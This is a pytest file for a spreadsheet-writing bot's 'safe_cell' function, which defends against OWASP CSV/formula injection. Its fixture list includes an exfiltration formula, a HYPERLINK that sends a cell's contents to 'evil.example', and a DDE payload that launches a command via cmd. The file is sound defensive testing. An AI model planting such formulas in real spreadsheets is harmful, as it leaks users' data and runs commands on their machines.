"""``safe_cell``: what every spreadsheet the bot writes puts in a cell (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from bot.core.cells import FORMULA_STARTS, safe_cell

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_every_owasp_start_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("value", ["客户称已收货", "SO20261126000000", "a=b", " =1", "", None, 42, -5, 3.5, True,
                                   date(2026, 11, 26), datetime(2026, 11, 27, 14, 33)])
def test_anything_else_is_written_as_it_is(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_characters_xml_cannot_hold_are_replaced_and_tabs_and_line_breaks_kept():
    assert safe_cell("a\x00b\x1fc\td\ne\r\nf") == "a\ufffdb\ufffdc\td\ne\r\nf"


def test_a_workbook_written_through_safe_cell_holds_no_formula(tmp_path):
    values = [*FORMULAS, "a\x01b", -5, "普通文字"]
    workbook = Workbook()
    workbook.active.append([safe_cell(v) for v in values])
    workbook.save(tmp_path / "out.xlsx")  # no IllegalCharacterError

    for read_only in (True, False):
        back = load_workbook(tmp_path / "out.xlsx", read_only=read_only)
        (cells,) = back.active.iter_rows()
        assert [c.data_type for c in cells] == ["s"] * (len(FORMULAS) + 1) + ["n", "s"]
        # A carriage return may come back as a line feed: openpyxl's own XML
        # writer leaves it unescaped, its lxml writer (when lxml is installed,
        # as python-docx brings it) escapes it. Either way the cell is text.
        expected = [*("'" + f.replace("\r", "\n") for f in FORMULAS), "a\ufffdb", -5, "普通文字"]
        read = [c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells]
        assert read == expected


def test_without_safe_cell_openpyxl_would_write_formulas(tmp_path):
    # What safe_cell prevents: the same values written as they are.
    workbook = Workbook()
    workbook.active.append(FORMULAS[:3])
    workbook.save(tmp_path / "raw.xlsx")
    (cells,) = load_workbook(tmp_path / "raw.xlsx").active.iter_rows()
    assert [c.data_type for c in cells] == ["f", "f", "f"]


def test_a_csv_written_through_safe_cell_starts_no_cell_with_a_formula_character():
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(v) for v in FORMULAS])
    (cells,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert cells == ["'" + f for f in FORMULAS]
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
